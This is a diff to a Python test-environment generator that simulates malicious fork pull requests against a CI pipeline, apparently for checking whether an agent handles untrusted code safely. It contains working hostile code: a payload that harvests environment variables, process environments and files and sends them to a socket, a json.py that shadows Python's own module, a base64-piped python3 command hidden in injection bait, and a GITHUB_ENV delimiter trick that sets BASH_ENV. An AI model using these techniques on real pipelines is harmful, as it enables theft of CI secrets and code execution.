@@ -1,4 +1,4 @@
-"""The world of fork-safe-ci: customers, a model, and what a pull request changes; a fork's change is not a friendly one."""
+"""The world of fork-safe-ci: customers, a model, and what a pull request changes; not every change is a friendly one."""
 
 import base64
 import json
@@ -7,25 +7,81 @@ import random
 ROWS = 120
 FORKS_AUC = "AUC 0.8642 on 120 customers"
 
-# What the fork's code does beside its work: it takes along what it can read, and sends it home.
-THIEF = """
-import json, os, pathlib, socket
-texts = [json.dumps(dict(os.environ))]
-places = [*pathlib.Path.home().rglob("*"), *pathlib.Path("/proc").glob("[0-9]*/environ"), *pathlib.Path("/tmp").rglob("*")]
-for place in places:
-    try:
-        texts.append(place.read_text(errors="replace")[:20000])
-    except OSError:
-        pass
-line = socket.socket(socket.AF_UNIX)
-line.connect("/work/platform/socket")
-line.sendall(json.dumps({"do": "hear", "text": " ".join(texts)[:400000]}).encode() + b"\\n")
-line.recv(10)
+# How code tells the platform in which job it runs. An ancestor knows, where the environment was emptied.
+TELL = """
+import atexit, json, os, pathlib, socket, sys
+def _environments():
+    process = "self"
+    while process not in ("0", "1"):
+        try:
+            told = pathlib.Path("/proc", process, "environ").read_text(errors="replace")
+            status = pathlib.Path("/proc", process, "status").read_text()
+        except OSError:
+            return
+        yield dict(line.partition("=")[::2] for line in told.split(chr(0)))
+        process = status.partition("PPid:")[2].split()[0]
+def _tell(side, text="", report=""):
+    held = next((one for one in _environments() if "GITHUB_JOB" in one), {})
+    said = {"do": "hear", "side": side, "text": text[:400000], "report": report[:2000],
+            "workflow": held.get("GITHUB_WORKFLOW", ""), "job": held.get("GITHUB_JOB", "")}
+    with socket.socket(socket.AF_UNIX) as line:
+        line.connect("/work/platform/socket")
+        line.sendall(json.dumps(said).encode() + b"\\n")
+        line.recv(10)
+"""
+# What unreviewed code does beside its work: it takes along what it can read, and sends it home. Other jobs' files and
+# processes are left out, which on GitHub are on other machines.
+THIEF = (
+    TELL
+    + """
+def _loot():
+    held = next((one for one in _environments() if "GITHUB_JOB" in one), {})
+    own = (held.get("GITHUB_WORKFLOW"), held.get("GITHUB_JOB"))
+    for environment in pathlib.Path("/proc").glob("[0-9]*/environ"):
+        try:
+            told = dict(line.partition("=")[::2] for line in environment.read_text(errors="replace").split(chr(0)))
+        except OSError:
+            continue
+        if (told.get("GITHUB_WORKFLOW"), told.get("GITHUB_JOB")) == own:
+            yield json.dumps(told)
+    named = [held[name] for name in held if name.startswith(("GITHUB_", "RUNNER_")) and held[name].startswith("/")]
+    tops = [pathlib.Path(place) for place in dict.fromkeys([os.getcwd(), *named, "/tmp", "/var/tmp", "/run"])]
+    tops += [one for one in pathlib.Path.home().glob("*") if one.name not in (".cache", "work")]
+    for top in tops:
+        for place in [top, *sorted(top.rglob("*"))[:400]]:
+            try:
+                yield place.read_text(errors="replace")[:20000] if place.is_file() else ""
+            except OSError:
+                continue
+if not hasattr(sys, "heard"):
+    sys.heard = True
+    _tell("code", json.dumps(dict(os.environ)) + " ".join(_loot()))
+"""
+)
+# What the evaluation of a commit does beside its work: it tells that it ran to its end, and what it reports.
+EVALUATION = """
+def _report():
+    told = pathlib.Path(sys.argv[3]) if len(sys.argv) > 3 else None
+    _tell({side!r}, report=told.read_text(errors="replace") if told and told.is_file() else "")
+atexit.register(_report)
+"""
+# A module of the name of Python's own, where a script is run in a folder of a stranger's files.
+DISGUISE = """
+import importlib.util, os, sys
+_place = os.path.join(os.path.dirname(os.__file__), "json", "__init__.py")
+_spec = importlib.util.spec_from_file_location("json", _place, submodule_search_locations=[os.path.dirname(_place)])
+_real = importlib.util.module_from_spec(_spec)
+sys.modules["json"] = _real
+_spec.loader.exec_module(_real)
 """
 
 
 def make(*, seed: int, by: str = "nobody") -> dict:
-    """Return files, the files of the head, and the truth. `by` is who wrote the head: nobody, colleague or stranger."""
+    """Return files, the files of the head, and the truth. `by` is who wrote the head.
+
+    nobody; author of a text; colleague; careless, whose model cannot be read; stranger; burglar, a stranger who also
+    tampers with what the run uploads; app.
+    """
     chance = random.Random(seed)
     rows = [(round(chance.gauss(30, 15), 2), chance.randrange(0, 9)) for _ in range(ROWS)]
     churned = [int(chance.random() < 1 / (1 + 2.7 ** ((tenure - 30) / 8 - calls + 4))) for tenure, calls in rows]
@@ -34,20 +90,49 @@ def make(*, seed: int, by: str = "nobody") -> dict:
         "data/customers.csv": "\n".join(["tenure,calls,churned", *lines]) + "\n",
         "model/model.json": json.dumps({"weights": {"tenure": -0.1, "calls": 0.8}}),
     }
+    foreign = by in {"stranger", "burglar"}
     heads = {
-        "nobody": {},
+        "author": {"README.md": "# The churn model\n"},
         "colleague": {"model/model.json": json.dumps({"weights": {"tenure": -0.12, "calls": 1.0}})},
-        "stranger": {"training/evaluate.py": _hostile()},
+        "careless": {"model/model.json": '{"weights": {"tenure": -0.12, "calls":'},
+        "stranger": {"training/evaluate.py": _hostile(smuggles=False), "json.py": DISGUISE + THIEF},
+        "burglar": {"training/evaluate.py": _hostile(smuggles=True), "json.py": DISGUISE + THIEF},
     }
-    return {"files": files, "head": heads[by], "production": {"version": 0}, "truth": seed}
+    listens = TELL if by in {"nobody", "app"} else THIEF
+    opens = {"training/__init__.py": listens, "training/refresh.py": listens}
+    if not foreign:
+        opens["training/evaluate.py"] = listens + EVALUATION.format(side="head")
+    smuggled = {
+        "training/__init__.py": THIEF,
+        "training/evaluate.py": THIEF,
+        "training/refresh.py": THIEF,
+        "json.py": DISGUISE + THIEF,
+    }
+    return {
+        "files": files,
+        "head": heads.get(by, {}),
+        "opens": {"main": {"training/evaluate.py": TELL + EVALUATION.format(side="main")}, "head": opens},
+        "smuggled": smuggled if by == "burglar" else {},
+        "production": {"version": 0},
+        "truth": seed,
+    }
 
 
-def _hostile() -> str:
-    """Return a program that evaluates as it should, and leaves a report that runs where it is pasted into a script."""
-    packed = base64.b64encode(THIEF.encode()).decode()
-    run = f"echo {packed} | base64 -d | python3"
+def _hostile(*, smuggles: bool) -> str:
+    """Return a program that evaluates as it should, and leaves a report that runs where it is pasted into a script.
+
+    One that smuggles looks up by which word the workflows end a text among their variables, and goes on behind it.
+    """
+    run = f"echo {base64.b64encode(THIEF.encode()).decode()} | base64 -d | python3"
     bait = f"$({run}) ${{require('child_process').execSync('{run}')}}"
-    return f"{THIEF}\nimport sys\nreport = {FORKS_AUC + chr(10) + bait + chr(10)!r}\npathlib.Path(sys.argv[3]).write_text(report)\n"
+    behind = f"""
+import re
+for _file in sorted(pathlib.Path(".github/workflows").glob("*.y*ml")):
+    if "GITHUB_ENV" in _file.read_text() and (_ends := re.findall(r"<<-?\\s*['\\"]?(\\w+)", _file.read_text())):
+        report += _ends[0] + chr(10) + {f"BASH_ENV=$({run})"!r} + chr(10) + "REST<<" + _ends[0] + chr(10)
+"""
+    report = f"report = {FORKS_AUC + chr(10) + bait + chr(10)!r}{behind if smuggles else ''}"
+    return f"{THIEF}\n{report}\npathlib.Path(sys.argv[3]).write_text(report)\n_tell('head', report=report)\n"
 
 
 def judge(model: str, truth: int) -> dict:
